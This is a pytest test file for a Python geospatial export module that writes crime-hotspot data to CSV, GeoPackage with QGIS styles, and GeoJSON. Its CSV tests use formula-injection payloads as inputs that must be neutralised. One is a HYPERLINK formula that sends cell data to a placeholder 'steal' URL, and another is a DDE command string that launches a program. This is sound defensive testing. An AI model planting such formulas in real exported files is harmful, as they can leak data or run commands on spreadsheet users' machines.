"""analysis.export.vector: formula-safe CSV, GeoPackage with QGIS styles, GeoJSON."""
from __future__ import annotations

import csv
import sqlite3
import xml.etree.ElementTree as ET

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
from shapely.geometry import Point, box

from analysis.csvfile import neutralise_cell, write_csv
from analysis.export.vector import (GI_CLASS_STYLE, StyledLayer, hotspots_table, qml_gi_cells,
                                    qml_hotspots, qml_points, read_layer_styles, sld_gi_cells, sld_hotspots,
                                    sld_points, write_geojson, write_geopackage)
from analysis.progress import BeatwiseError

CRS = "EPSG:27700"
HYPERLINK = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click")'


def read_csv_rows(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("text", ["=1+1", "+44 1702", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =cmd|' /C calc'!A0",
                                  HYPERLINK])
def test_neutralise_cell__formula_starts_get_an_apostrophe(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["York Road", "", "On or near =", "a-b", 3, -1.5, None, 0.0])
def test_neutralise_cell__other_values_unchanged(value):
    assert neutralise_cell(value) == value


def test_write_csv__hyperlink_cell_is_neutralised_numbers_stay_numbers(tmp_path):
    frame = pd.DataFrame({"name": [HYPERLINK, "York Road", "@risk"], "z": [-1.5, 2.0, np.nan],
                          "n": [1, 2, 3]})
    path = write_csv(frame, tmp_path / "out.csv")
    rows = read_csv_rows(path)
    assert rows[0] == ["name", "z", "n"]
    assert rows[1][0] == "'" + HYPERLINK
    assert rows[2][0] == "York Road"
    assert rows[3][0] == "'@risk"
    assert [r[1] for r in rows[1:]] == ["-1.5", "2.0", ""]  # numbers are not text: no apostrophe
    assert [r[2] for r in rows[1:]] == ["1", "2", "3"]
    # nothing starting with a formula character survives anywhere in the file
    assert not any(c[:1] in "=+@" for r in rows for c in r if c)
    assert not list(tmp_path.glob(".partial-*"))


def test_write_csv__geometry_left_out(tmp_path):
    gdf = gpd.GeoDataFrame({"a": ["x"]}, geometry=[Point(1, 2)], crs=CRS)
    rows = read_csv_rows(write_csv(gdf, tmp_path / "g.csv"))
    assert rows == [["a"], ["x"]]


def _small_hotspots(location_text: str):
    """Two tight clusters on a 10 m grid, one of them at a location named ``location_text``."""
    from analysis.hotspots.areas import hotspot_areas
    from analysis.hotspots.kde import grid_for_kde, kde

    rng = np.random.default_rng(3)
    a = rng.normal([588000, 185500], 15, (120, 2))
    b = rng.normal([589000, 185400], 15, (60, 2))
    bg = rng.uniform([587500, 185000], [589500, 186000], (60, 2))
    xy = np.vstack([a, b, bg])
    loc = [location_text] * 120 + ["On or near York Road"] * 60 + ["On or near Elsewhere"] * 60
    gdf = gpd.GeoDataFrame({"location": loc, "weight": 1.0}, geometry=gpd.points_from_xy(xy[:, 0], xy[:, 1]),
                           crs=CRS)
    grid, choice = grid_for_kde(gdf, cell_m=10.0, bandwidth_m=60.0)
    surface = kde(gdf, grid, bandwidth_m=choice)
    return hotspot_areas(surface, gdf, top_percent=3.0), gdf


def test_hotspots_csv__formula_location_neutralised_and_numbers_match(tmp_path):
    areas, gdf = _small_hotspots(HYPERLINK)
    table = hotspots_table(areas)
    path = write_csv(table, tmp_path / "hotspots.csv")
    rows = read_csv_rows(path)
    header, body = rows[0], rows[1:]
    assert len(body) == len(areas.hotspots) >= 2
    first = dict(zip(header, body[0]))
    assert first["locations"].startswith("'" + HYPERLINK)
    assert int(first["rank"]) == 1 and int(first["incidents"]) == areas.hotspots[0].incidents
    # the incidents of hotspot 1 counted by brute force: points inside its polygon
    inside = gdf.geometry.within(areas.hotspots[0].geometry.buffer(1e-6)).sum()
    assert int(first["incidents"]) == inside
    assert float(first["share_percent"]) == pytest.approx(100 * inside / len(gdf), rel=1e-12)
    # centroid in lon/lat agrees with the projected centroid
    from pyproj import Transformer

    lon, lat = Transformer.from_crs(CRS, "EPSG:4326", always_xy=True).transform(
        float(first["centroid_x"]), float(first["centroid_y"]))
    assert float(first["centroid_lon"]) == pytest.approx(lon, abs=1e-6)
    assert float(first["centroid_lat"]) == pytest.approx(lat, abs=1e-6)


def _layers():
    hot = gpd.GeoDataFrame({"rank": [1, 2], "incidents": [10, 4], "locations": ["A; B", "C"]},
                           geometry=[box(0, 0, 10, 10), box(20, 0, 30, 10)], crs=CRS)
    gi = gpd.GeoDataFrame({"row": [0, 1, 2], "col": [0, 0, 0], "z": [3.1, -2.2, 1.7], "gi_class": [3, -2, 1]},
                          geometry=[box(0, 0, 100, 100), box(0, 100, 100, 200), box(0, 200, 100, 300)], crs=CRS)
    inc = gpd.GeoDataFrame({"incident_id": ["a", "b", "c"], "crime_type": ["<b>x</b>", "Drugs", "=1+1"],
                            "t_start": pd.to_datetime(["2025-01-06 00:07", "2025-01-07 13:00", None]),
                            "hotspot_rank": [1, 0, 2]},
                           geometry=[Point(5, 5), Point(50, 50), Point(25, 5)], crs=CRS)
    return [StyledLayer("hotspots", hot, qml_hotspots(), sld_hotspots(), "hotspot areas"),
            StyledLayer("gi_star_cells", gi, qml_gi_cells(), sld_gi_cells(), "Gi* cells"),
            StyledLayer("incidents", inc, qml_points(), sld_points(), "incidents")]


def test_write_geopackage__reads_back_with_styles_table(tmp_path):
    layers = _layers()
    path = write_geopackage(tmp_path / "h.gpkg", layers)
    names = [n for n, _ in pyogrio.list_layers(path)]
    assert set(names) >= {"hotspots", "gi_star_cells", "incidents"}
    for lyr in layers:
        back = gpd.read_file(path, layer=lyr.name)
        assert len(back) == len(lyr.frame)
        assert back.crs.to_epsg() == 27700
    back = gpd.read_file(path, layer="incidents")
    assert list(back["crime_type"]) == ["<b>x</b>", "Drugs", "=1+1"]  # GIS layers keep the data as is
    styles = read_layer_styles(path)
    assert list(styles["f_table_name"]) == ["hotspots", "gi_star_cells", "incidents"]
    assert (styles["useAsDefault"] == 1).all()
    con = sqlite3.connect(path)
    try:
        geom_cols = dict(con.execute("SELECT table_name, column_name FROM gpkg_geometry_columns"))
        contents = dict(con.execute("SELECT table_name, data_type FROM gpkg_contents"))
    finally:
        con.close()
    assert contents["layer_styles"] == "attributes"
    for _, row in styles.iterrows():
        assert row["f_geometry_column"] == geom_cols[row["f_table_name"]]
        qml = ET.fromstring(row["styleQML"].split("\n", 1)[1])  # after the DOCTYPE line
        assert qml.tag == "qgis" and qml.find("renderer-v2") is not None
        ET.fromstring(row["styleSLD"])  # well-formed SLD
    gi_qml = ET.fromstring(styles.loc[styles["f_table_name"] == "gi_star_cells", "styleQML"].iloc[0].split("\n", 1)[1])
    renderer = gi_qml.find("renderer-v2")
    assert renderer.get("type") == "categorizedSymbol" and renderer.get("attr") == "gi_class"
    values = sorted(int(c.get("value")) for c in renderer.iter("category"))
    assert values == sorted(GI_CLASS_STYLE) == [-3, -2, -1, 0, 1, 2, 3]
    hot_qml = ET.fromstring(styles.loc[styles["f_table_name"] == "hotspots", "styleQML"].iloc[0].split("\n", 1)[1])
    assert hot_qml.find("labeling/settings/text-style").get("fieldName") == "rank"
    assert not list(tmp_path.glob(".partial-*"))


def test_write_geopackage__version_1_3_opens_in_gdal_3_6_without_warning(tmp_path):
    """Regression: GeoPackages were written as 1.4; Debian 12's GDAL 3.6 (QGIS 3.22) warned on every open."""
    path = write_geopackage(tmp_path / "h.gpkg", _layers())
    con = sqlite3.connect(path)
    try:
        app_id = con.execute("PRAGMA application_id").fetchone()[0]
        version = con.execute("PRAGMA user_version").fetchone()[0]
    finally:
        con.close()
    assert app_id == 0x47504B47 and version == 10300  # 'GPKG', 1.3.0
    import shutil
    import subprocess

    if shutil.which("ogrinfo") is None:
        pytest.skip("ogrinfo (Debian gdal-bin) not installed: the system GDAL check needs it")
    run = subprocess.run(["ogrinfo", "-so", "-al", str(path)], capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    assert "Warning" not in run.stderr + run.stdout and "partially supported" not in run.stderr


def test_hotspot_labels__collisions_thinned_by_rank():
    """Regression: labels of hotspots 11 and 14 printed over each other in QGIS (displayAll=1)."""
    qml = ET.fromstring(qml_hotspots().split("\n", 1)[1])
    settings = qml.find("labeling/settings")
    assert settings.find("rendering").get("displayAll") == "0"
    prio = settings.find("dd_properties/Option/Option[@name='properties']/Option[@name='Priority']")
    assert prio is not None
    opts = {o.get("name"): o.get("value") for o in prio}
    assert opts["active"] == "true" and '"rank"' in opts["expression"]


def test_write_geopackage__replaces_an_existing_file(tmp_path):
    path = tmp_path / "h.gpkg"
    write_geopackage(path, _layers())
    write_geopackage(path, _layers()[:1])
    assert [n for n, _ in pyogrio.list_layers(path)] == ["hotspots", "layer_styles"]
    assert list(read_layer_styles(path)["f_table_name"]) == ["hotspots"]


def test_write_geopackage__duplicate_names_refused_and_failure_leaves_nothing(tmp_path):
    layers = _layers()
    with pytest.raises(BeatwiseError, match="unique"):
        write_geopackage(tmp_path / "d.gpkg", [layers[0], layers[0]])
    bad = StyledLayer("broken", "not a frame")
    with pytest.raises(Exception):
        write_geopackage(tmp_path / "f.gpkg", [layers[0], bad])
    assert list(tmp_path.iterdir()) == []


def test_read_layer_styles__none(tmp_path):
    path = tmp_path / "plain.gpkg"
    _layers()[0].frame.to_file(path, layer="x", driver="GPKG")
    assert read_layer_styles(path).empty


def test_write_geojson__wgs84(tmp_path):
    gdf = gpd.GeoDataFrame({"name": ["=x"]}, geometry=[Point(588000, 185500)], crs=CRS)
    path = write_geojson(gdf, tmp_path / "p.geojson")
    back = gpd.read_file(path)
    assert back.crs.to_epsg() == 4326
    assert back.geometry.x[0] == pytest.approx(0.7111, abs=0.01) and back.geometry.y[0] == pytest.approx(51.53, abs=0.01)
    assert back["name"][0] == "=x"
